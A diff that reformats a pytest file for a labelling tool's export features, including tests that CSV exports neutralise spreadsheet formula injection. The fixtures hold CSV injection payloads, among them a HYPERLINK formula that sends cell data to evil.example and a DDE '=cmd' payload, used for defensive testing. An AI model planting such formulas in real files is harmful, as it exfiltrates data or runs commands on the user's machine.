@@ -23,8 +23,20 @@ from feedback.review import record_label
 ADMIN = Actor("tester", "admin")  # the acting user of calls that need an admin
 
 FEATURES = [f"px_{i}" for i in range(64)]
-PROVENANCE = ["event_id", "id", "label", "action", "annotator", "created_at", "shown_prediction",
-              "shown_model_version", "serving_model_version", "served_prediction", "is_audit", "batch_id"]
+PROVENANCE = [
+    "event_id",
+    "id",
+    "label",
+    "action",
+    "annotator",
+    "created_at",
+    "shown_prediction",
+    "shown_model_version",
+    "serving_model_version",
+    "served_prediction",
+    "is_audit",
+    "batch_id",
+]
 
 
 def _read(path, fmt):
@@ -74,8 +86,9 @@ def test_unknown_export_format_is_refused_and_writes_no_file(ws, tmp_path):
 
 
 @pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
-def test_training_set_export_holds_exactly_the_rows_a_version_trained_on(ws, challenger, logged, digits_frame,
-                                                                        tmp_path, fmt):
+def test_training_set_export_holds_exactly_the_rows_a_version_trained_on(
+    ws, challenger, logged, digits_frame, tmp_path, fmt
+):
     out = export_training_set(ws, 2, tmp_path / f"v2.{fmt}", fmt, actor=ADMIN)
     frame = _read(out, fmt)
     assert list(frame.columns[:5]) == ["id", "label", "source", "model_version", "snapshot_id"]
@@ -83,7 +96,8 @@ def test_training_set_export_holds_exactly_the_rows_a_version_trained_on(ws, cha
     served = logged(ws)
     not_audit = served.index[~served["is_audit"].astype(bool)]
     assert sorted(frame["id"].astype(str)) == sorted([*digits_frame["id"].iloc[:30], *not_audit]), (
-        "the seed and every expert label outside the audit slice, nothing else")
+        "the seed and every expert label outside the audit slice, nothing else"
+    )
     assert (frame["source"] == "seed").sum() == 30 and (frame["source"] == "expert").sum() == len(not_audit)
     truth = digits_frame.set_index("id").loc[frame["id"].astype(str)]
     assert list(frame["label"].astype(str)) == list(truth["label"].astype(str))
@@ -95,8 +109,7 @@ def test_training_set_export_holds_exactly_the_rows_a_version_trained_on(ws, cha
     assert len(seed_only) == 30 and set(seed_only["source"]) == {"seed"}
 
 
-def test_training_set_export_refuses_an_unknown_version_or_a_lost_snapshot_and_writes_nothing(ws, challenger,
-                                                                                             tmp_path):
+def test_training_set_export_refuses_an_unknown_version_or_a_lost_snapshot_and_writes_nothing(ws, challenger, tmp_path):
     with pytest.raises(InputError, match="There is no model version 9; the versions are 1, 2."):
         export_training_set(ws, 9, tmp_path / "v9.csv", actor=ADMIN)
     (ws.snapshots_dir / f"{champion_and_challenger(ws)[1].snapshot_id}.parquet").unlink()
@@ -125,8 +138,7 @@ def _check_scored(out, ids):
     return scored
 
 
-def test_predict_writes_id_predicted_and_probabilities_and_logs_nothing(ws, production_frame, tmp_path, state,
-                                                                        logged):
+def test_predict_writes_id_predicted_and_probabilities_and_logs_nothing(ws, production_frame, tmp_path, state, logged):
     frame = production_frame(25)
     frame.to_csv(tmp_path / "new.csv", index=False)
     before = state(ws)
@@ -209,8 +221,11 @@ def test_export_overview_counts_the_events_and_lists_what_each_version_trained_o
     assert overview.versions[0].n_labels == challenger.n_train - 30
 
 
-FORMULAS = {"annotator": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "reason_code": "@SUM(A1:A9)",
-            "comment": "-2+3"}
+FORMULAS = {
+    "annotator": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "reason_code": "@SUM(A1:A9)",
+    "comment": "-2+3",
+}
 MORE_FORMULAS = {"annotator": "+1", "reason_code": "\rcmd", "comment": "\t=1+1"}
 
 
@@ -225,8 +240,9 @@ def _text(path, fmt):
     return _read(path, fmt).astype({c: str for c in ["annotator", "reason_code", "comment"]})
 
 
-def test_csv_export_prefixes_formula_like_text_with_an_apostrophe_and_keeps_numbers(ws, ingested, logged, tmp_path,
-                                                                                   row_counts):
+def test_csv_export_prefixes_formula_like_text_with_an_apostrophe_and_keeps_numbers(
+    ws, ingested, logged, tmp_path, row_counts
+):
     _record_formulas(ws, logged)
     before = row_counts(ws)
 
@@ -256,12 +272,14 @@ def test_parquet_and_jsonl_exports_keep_the_raw_text(ws, ingested, logged, tmp_p
 def test_training_set_export_neutralises_formula_like_labels_and_features_in_csv_only(empty_ws, tmp_path, fmt):
     from feedback.lifecycle import init_task
 
-    seed = pd.DataFrame({
-        "id": [f"s-{i}" for i in range(8)],
-        "x": [-1.5, -0.5, 0.5, 1.5] * 2,
-        "note": ["=cmd|' /C calc'!A0", "@SUM(1)", "plain", "+1"] * 2,
-        "label": ["-down", "-down", "@up", "@up"] * 2,
-    })
+    seed = pd.DataFrame(
+        {
+            "id": [f"s-{i}" for i in range(8)],
+            "x": [-1.5, -0.5, 0.5, 1.5] * 2,
+            "note": ["=cmd|' /C calc'!A0", "@SUM(1)", "plain", "+1"] * 2,
+            "label": ["-down", "-down", "@up", "@up"] * 2,
+        }
+    )
     seed.to_csv(tmp_path / "seed.csv", index=False)
     init_task(empty_ws, tmp_path / "seed.csv", "label", audit_share=0.1)
 
